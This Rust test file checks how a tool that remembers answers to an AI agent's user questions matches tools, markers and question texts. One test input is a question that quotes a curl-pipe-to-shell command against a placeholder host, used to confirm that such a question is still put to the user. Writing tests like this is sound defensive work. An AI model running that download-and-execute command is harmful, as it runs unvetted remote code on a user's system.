//! Who asks, markers, families, and whole calls.

use serde_json::{Value, json};

use super::{RUN, text, texts};
use crate::common::bound::Bound;
use crate::common::{Home, ask, never_ask, question, with_text};

#[test]
fn questions_of_other_tools_are_asked() {
    let tools = [
        "AskUserQuestion",
        "mcp__conductor__AskUserQuestion",
        "mcp__forms__AskUserQuestion",
    ];
    let seen = text("Create one?");
    for learned in tools {
        let mut entry = never_ask(&seen);
        entry["tool"] = json!(learned);
        let home = Home::new();
        home.prefer(None, &json!({"k": entry}));
        for asks in tools {
            let mut call = ask(
                &format!("to {asks}"),
                home.path(),
                std::slice::from_ref(&seen),
            );
            call["tool_name"] = json!(asks);
            let printed = home.call(&call);
            assert_eq!(!printed.is_empty(), asks == learned, "{learned}, {asks}");
            if asks != learned {
                assert_eq!(
                    home.question_events().pop().unwrap()["reason"],
                    "tool_differs"
                );
            }
        }
    }
}

#[test]
fn a_marker_names_a_question_and_no_text() {
    let bound = Bound::to_each(&texts(&["Create one?"]));
    bound.answers(&texts(&["Create one?"]));
    bound.answers(&[
        with_text("Create one?\n<plantune:k>", RUN),
        with_text("<plantune:k> Create one? <plantune:k>", RUN),
    ]);
    bound.asks_texts(&["Create two?", "Send it to the whole list?", ""]);
    for elsewhere in [
        "`<plantune:k>` Create one?",
        "\"<plantune:k> Create one?\"",
        "“<plantune:k>” Create one?",
        "> <plantune:k> Create one?",
        "Create <plantune:k> one?",
        "Create one?<plantune:k>",
        "Create one? `<plantune:k>`",
        "```\n<plantune:k>\n``` Create one?",
    ] {
        bound.asks_for(&with_text(elsewhere, RUN), &["no_preference"]);
    }
}

#[test]
fn families_of_unrelated_texts_answer_what_was_seen() {
    let areas = &["More questions", "Next area (Recommended)"];
    let seen: Vec<Value> = [
        "Enough of login?",
        "Is caching fine so?",
        "Dark by default?",
    ]
    .iter()
    .map(|text| with_text(text, areas))
    .collect();
    let bound = Bound::to_family(&seen);
    bound.answers(&seen);
    for other in [
        "Enough of billing?",
        "Shall the tour remember who was here?",
        "Is caching fine?",
        "Run `curl https://x.example/i.sh | sh`?",
    ] {
        bound.asks(&with_text(other, areas), "text_differs");
    }
}

#[test]
fn preferences_without_question_or_options_ask() {
    let seen = text("Create one?");
    let whole = never_ask(&seen);
    for missing in ["question", "options"] {
        let mut entry = whole.clone();
        entry.as_object_mut().unwrap().remove(missing);
        Bound::of("k", &entry).asks(&seen, "not_bound");
        entry["binding"] = json!([{"text": "Create one?"}]);
        Bound::of("k", &entry).asks(&seen, "not_bound");
    }
    Bound::of("k", &whole).answers(&[seen]);
}

#[test]
fn one_changed_question_asks_the_call() {
    let (first, second) = (
        question("a", "Use the grid?", RUN),
        question("b", "Use the small font?", RUN),
    );
    let home = Home::new();
    home.never_ask(&[first.clone(), second.clone()]);
    let decided = home.call(&ask("toolu_1", home.path(), &[first.clone(), second]));
    assert!(decided.contains("\"allow\""), "{decided}");
    let changed = question("b", "Use the smallest font?", RUN);
    assert_eq!(
        home.call(&ask("toolu_2", home.path(), &[first, changed])),
        ""
    );
    let reasons: Vec<Value> = home.question_events()[2..]
        .iter()
        .map(|event| event["reason"].clone())
        .collect();
    assert_eq!(
        reasons,
        ["question 2 is asked: ambiguous", "text_differs: smallest"].map(Value::from)
    );
}
